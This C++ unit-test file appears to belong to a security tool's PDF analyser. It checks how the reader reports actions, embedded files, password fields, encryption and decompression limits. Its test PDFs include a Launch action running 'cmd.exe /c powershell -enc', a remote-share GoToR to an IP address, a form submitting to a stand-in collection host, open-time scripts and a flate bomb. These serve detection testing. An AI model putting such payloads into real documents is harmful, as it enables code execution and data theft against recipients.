// The PDF reader on documents written here: each action kind and the trigger it is reached by,
// embedded files, password fields, encryption, damaged files qpdf repairs, and the bounds
// (size, objects visited, decoded stream size against a flate bomb).
#include "objects/pdf/pdf.h"

#include <gtest/gtest.h>
#include <qpdf/Pl_Flate.hh>
#include <qpdf/Pl_String.hh>

#include <algorithm>
#include <chrono>

#include "objects/pdf/pdf_test_writer.h"

namespace vigie::objects::pdf {
namespace {

using testing::encrypted;
using testing::one_page_pdf;
using testing::stream;
using testing::write_pdf;

const Action* find(const PdfContent& pdf, ActionKind kind) {
  for (const Action& a : pdf.actions) {
    if (a.kind == kind) return &a;
  }
  return nullptr;
}

std::string deflated_zeros(std::size_t mebibytes) {
  std::string compressed;
  Pl_String sink("compressed", nullptr, compressed);
  Pl_Flate deflate("deflate", &sink, Pl_Flate::a_deflate);
  const std::string zeros(1 << 20, '\0');
  for (std::size_t i = 0; i < mebibytes; ++i) {
    deflate.write(reinterpret_cast<const unsigned char*>(zeros.data()), zeros.size());
  }
  deflate.finish();
  return compressed;
}

TEST(PdfReaderTest, OpenActionScriptAndALinkAnnotation) {
  const std::string bytes = one_page_pdf("/OpenAction 4 0 R", "/Annots [5 0 R]",
                                         {"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>",
                                          "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                                          "/A << /S /URI /URI (https://example.org/login) >> >>"});
  const PdfContent pdf = read_pdf(bytes, Limits{});
  ASSERT_TRUE(pdf.opened) << pdf.error;
  EXPECT_FALSE(pdf.encrypted);
  EXPECT_TRUE(pdf.error.empty()) << pdf.error;
  const Action* js = find(pdf, ActionKind::kJavaScript);
  ASSERT_NE(js, nullptr);
  EXPECT_EQ(js->trigger, Trigger::kOpen);
  EXPECT_EQ(js->script, "app.alert(1);");
  const Action* uri = find(pdf, ActionKind::kUri);
  ASSERT_NE(uri, nullptr);
  EXPECT_EQ(uri->trigger, Trigger::kClick);
  EXPECT_EQ(uri->target, "https://example.org/login");
}

TEST(PdfReaderTest, DocumentScriptsPageEventsAndScriptStreams) {
  const std::string bytes = one_page_pdf(
      "/Names << /JavaScript << /Names [(init) 4 0 R] >> >>", "/AA << /O 5 0 R >>",
      {"<< /S /JavaScript /JS 6 0 R >>", "<< /S /JavaScript /JS (this.print\\(\\);) >>",
       stream("", "var x = 'https://203.0.113.5/p';")});
  const PdfContent pdf = read_pdf(bytes, Limits{});
  ASSERT_TRUE(pdf.opened) << pdf.error;
  ASSERT_EQ(pdf.actions.size(), 2u);
  const auto tree = std::find_if(pdf.actions.begin(), pdf.actions.end(),
                                 [](const Action& a) { return a.trigger == Trigger::kDocumentScript; });
  ASSERT_NE(tree, pdf.actions.end());
  EXPECT_EQ(tree->script, "var x = 'https://203.0.113.5/p';");
  const auto page = std::find_if(pdf.actions.begin(), pdf.actions.end(),
                                 [](const Action& a) { return a.trigger == Trigger::kEvent; });
  ASSERT_NE(page, pdf.actions.end());
  EXPECT_EQ(page->event, "/O");
  EXPECT_EQ(page->script, "this.print();");
}

TEST(PdfReaderTest, FieldEventsNeedTheReader) {
  // A form's keystroke and format scripts (as administrative forms carry) and a page-close script.
  const std::string bytes = one_page_pdf(
      "/AcroForm << /Fields [4 0 R] >>", "/Annots [4 0 R] /AA << /C << /S /JavaScript /JS (close\\(\\);) >> >>",
      {"<< /Type /Annot /Subtype /Widget /FT /Tx /T (montant) /Rect [0 0 1 1] "
       "/AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\);) >> /C << /S /JavaScript /JS (AFSimple_Calculate\\(\\);) >> >> >>"});
  const PdfContent pdf = read_pdf(bytes, Limits{});
  ASSERT_TRUE(pdf.opened) << pdf.error;
  ASSERT_EQ(pdf.actions.size(), 3u);
  for (const Action& a : pdf.actions) {
    if (a.script == "close();") {
      EXPECT_EQ(a.trigger, Trigger::kEvent);  // a page's /C: the page closing
    } else {
      EXPECT_EQ(a.trigger, Trigger::kClick) << a.script;  // a field's /K and /C
    }
  }
}

TEST(PdfReaderTest, LaunchSubmitAndRemoteFiles) {
  const std::string bytes = one_page_pdf(
      "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c powershell -enc SQBFAFgA) >> "
      "/Next << /S /GoToR /F (\\\\\\\\198.51.100.3\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
      "/Annots [4 0 R]",
      {"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 1 1] "
       "/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/p) >> >> >>"});
  const PdfContent pdf = read_pdf(bytes, Limits{});
  ASSERT_TRUE(pdf.opened) << pdf.error;
  const Action* launch = find(pdf, ActionKind::kLaunch);
  ASSERT_NE(launch, nullptr);
  EXPECT_EQ(launch->trigger, Trigger::kOpen);
  EXPECT_EQ(launch->target, "cmd.exe");
  EXPECT_EQ(launch->parameters, "/c powershell -enc SQBFAFgA");
  const Action* remote = find(pdf, ActionKind::kGoToRemote);
  ASSERT_NE(remote, nullptr);
  EXPECT_EQ(remote->trigger, Trigger::kOpen);  // a /Next runs with what it follows
  EXPECT_EQ(remote->target, "\\\\198.51.100.3\\share\\x.pdf");
  const Action* submit = find(pdf, ActionKind::kSubmitForm);
  ASSERT_NE(submit, nullptr);
  EXPECT_EQ(submit->trigger, Trigger::kClick);
  EXPECT_EQ(submit->target, "https://collect.example/p");
}

TEST(PdfReaderTest, EmbeddedFilesAndPasswordFields) {
  const std::string bytes = one_page_pdf(
      "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >> /AcroForm << /Fields [6 0 R 7 0 R] >>",
      "/Annots [6 0 R 7 0 R 8 0 R]",
      {"<< /Type /Filespec /F (invoice.xml) /UF (facture.xml) /EF << /F 5 0 R >> >>",
       stream("/Type /EmbeddedFile /Subtype /text#2Fxml", "<Invoice/>"),
       "<< /Type /Annot /Subtype /Widget /FT /Tx /T (login) /Rect [0 0 1 1] >>",
       "<< /Type /Annot /Subtype /Widget /FT /Tx /Ff 8192 /T (motdepasse) /Rect [0 0 1 1] >>",
       "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] /FS << /Type /Filespec /F (run.js) "
       "/EF << /F 9 0 R >> >> >>",
       stream("/Type /EmbeddedFile", "WScript.Echo(1);")});
  const PdfContent pdf = read_pdf(bytes, Limits{});
  ASSERT_TRUE(pdf.opened) << pdf.error;
  ASSERT_EQ(pdf.files.size(), 2u);
  EXPECT_EQ(pdf.files[0].name, "facture.xml");
  EXPECT_EQ(pdf.files[0].declared_type, "text/xml");
  EXPECT_EQ(*pdf.files[0].content, "<Invoice/>");
  EXPECT_EQ(pdf.files[1].name, "run.js");
  EXPECT_EQ(*pdf.files[1].content, "WScript.Echo(1);");
  EXPECT_FALSE(pdf.files[1].truncated);
  EXPECT_EQ(pdf.text_fields, 2u);
  ASSERT_EQ(pdf.password_fields.size(), 1u);
  EXPECT_EQ(pdf.password_fields[0], "motdepasse");
}

TEST(PdfReaderTest, ADamagedFileIsRepaired) {
  std::string bytes = one_page_pdf("/OpenAction << /S /URI /URI (https://example.org/) >>", "", {});
  // The cross-reference table points nowhere: qpdf rebuilds it by scanning for objects.
  bytes.replace(bytes.find("0000000", bytes.find("xref")), 4, "9999");
  bytes.replace(bytes.rfind("startxref\n") + 10, 1, "7");
  const PdfContent pdf = read_pdf(bytes, Limits{});
  ASSERT_TRUE(pdf.opened) << pdf.error;
  const Action* uri = find(pdf, ActionKind::kUri);
  ASSERT_NE(uri, nullptr);
  EXPECT_EQ(uri->target, "https://example.org/");
}

TEST(PdfReaderTest, NotAPdfIsAnErrorNotAnException) {
  const PdfContent pdf = read_pdf("this is not a PDF at all", Limits{});
  EXPECT_FALSE(pdf.opened);
  EXPECT_FALSE(pdf.error.empty());
}

TEST(PdfReaderTest, SizeAndObjectBudgets) {
  Limits limits;
  limits.max_pdf_bytes = 100;
  const std::string bytes = one_page_pdf("", "", {});
  const PdfContent big = read_pdf(bytes, limits);
  EXPECT_FALSE(big.opened);
  ASSERT_EQ(big.limits.size(), 1u);
  EXPECT_EQ(big.limits[0].limit, "max_pdf_bytes");

  // A page with 5000 annotations, a link each: the walk stops at the budget.
  std::string annots = "/Annots [";
  for (int i = 0; i < 5000; ++i) annots += "<< /Subtype /Link /A << /S /URI /URI (https://e.example/" + std::to_string(i) + ") >> >> ";
  annots += "]";
  Limits objects;
  objects.max_pdf_objects = 500;
  const PdfContent many = read_pdf(one_page_pdf("", annots, {}), objects);
  ASSERT_TRUE(many.opened) << many.error;
  EXPECT_LE(many.objects_visited, 500u);
  EXPECT_LT(many.actions.size(), 500u);
  ASSERT_EQ(many.limits.size(), 1u);
  EXPECT_EQ(many.limits[0].limit, "max_pdf_objects");
}

TEST(PdfReaderTest, AFlateBombStopsAtTheStreamBudget) {
  const std::string compressed = deflated_zeros(64);  // 64 MiB of zeros, about 64 KB compressed
  const std::string bytes = one_page_pdf(
      "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", "",
      {"<< /Type /Filespec /F (bomb.bin) /EF << /F 5 0 R >> >>",
       stream("/Type /EmbeddedFile /Filter /FlateDecode", compressed)});
  Limits limits;
  limits.max_pdf_stream_bytes = 1 << 20;
  const auto start = std::chrono::steady_clock::now();
  const PdfContent pdf = read_pdf(bytes, limits);
  const auto took = std::chrono::steady_clock::now() - start;
  ASSERT_TRUE(pdf.opened) << pdf.error;
  ASSERT_EQ(pdf.files.size(), 1u);
  EXPECT_TRUE(pdf.files[0].truncated);
  EXPECT_EQ(pdf.files[0].content->size(), limits.max_pdf_stream_bytes);
  ASSERT_EQ(pdf.limits.size(), 1u);
  EXPECT_EQ(pdf.limits[0].limit, "max_pdf_stream_bytes");
  EXPECT_LT(took, std::chrono::seconds(5));  // the decoder stopped early, not after 64 MiB
}

TEST(PdfReaderTest, AnObjectStreamBombIsNotHandedToQpdf) {
  // qpdf inflates an object stream whole on first use; this one would be 64 MiB.
  const std::string bomb = deflated_zeros(64);
  for (const std::string type : {"/ObjStm", "/Obj#53tm"}) {
    const std::string bytes = one_page_pdf(
        "", "", {stream("/Type " + type + " /N 1 /First 4 /Filter /FlateDecode", bomb)});
    Limits limits;
    limits.max_pdf_stream_bytes = 1 << 20;
    const auto start = std::chrono::steady_clock::now();
    const PdfContent pdf = read_pdf(bytes, limits);
    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
    EXPECT_FALSE(pdf.opened) << type;
    ASSERT_EQ(pdf.limits.size(), 1u) << type;
    EXPECT_EQ(pdf.limits[0].limit, "max_pdf_stream_bytes");
    EXPECT_GT(pdf.limits[0].observed, limits.max_pdf_stream_bytes);
  }
  // A small object stream is no bomb: the file opens (and qpdf reads the object inside).
  const std::string small = one_page_pdf(
      "/OpenAction 5 0 R", "",
      {stream("/Type /ObjStm /N 1 /First 4", "5 0 << /S /URI /URI (https://example.org/o) >>")});
  const PdfContent pdf = read_pdf(small, Limits{});
  EXPECT_TRUE(pdf.limits.empty());
  EXPECT_TRUE(pdf.opened) << pdf.error;
}

TEST(PdfReaderTest, APasswordGivenOpensIt) {
  const std::string bytes =
      encrypted(one_page_pdf("/OpenAction << /S /URI /URI (https://example.org/e) >>", "", {}), "2025");
  const PdfContent locked = read_pdf(bytes, Limits{});
  EXPECT_FALSE(locked.opened);
  EXPECT_TRUE(locked.password_required);
  const std::vector<std::string> passwords{"wrong", "2025"};
  const PdfContent pdf = read_pdf(bytes, Limits{}, passwords);
  ASSERT_TRUE(pdf.opened) << pdf.error;
  EXPECT_TRUE(pdf.encrypted);
  EXPECT_FALSE(pdf.password_required);
  EXPECT_EQ(pdf.password_used, "2025");
  const Action* uri = find(pdf, ActionKind::kUri);
  ASSERT_NE(uri, nullptr);
  EXPECT_EQ(uri->target, "https://example.org/e");
  // Encrypted with an empty user password: read as it is, no password used.
  const PdfContent open = read_pdf(encrypted(one_page_pdf("", "", {}), ""), Limits{});
  EXPECT_TRUE(open.opened);
  EXPECT_TRUE(open.encrypted);
  EXPECT_TRUE(open.password_used.empty());
}

TEST(PdfReaderTest, EncryptedWithAUserPasswordIsNotRead) {
  // RC4 40-bit (R2) with a user password: /O and /U computed for "secret" by qpdf's own writer
  // would need the writer; an /Encrypt dictionary with a /U that matches no empty password makes
  // qpdf ask for one, which is what matters here.
  const std::string bytes = write_pdf(
      {"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>",
       "<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 "
       "/O <0000000000000000000000000000000000000000000000000000000000000000> "
       "/U <1111111111111111111111111111111111111111111111111111111111111111> >>"},
      "/Encrypt 3 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]");
  const PdfContent pdf = read_pdf(bytes, Limits{});
  EXPECT_FALSE(pdf.opened);
  EXPECT_TRUE(pdf.encrypted);
  EXPECT_TRUE(pdf.password_required);
}

}  // namespace
}  // namespace vigie::objects::pdf
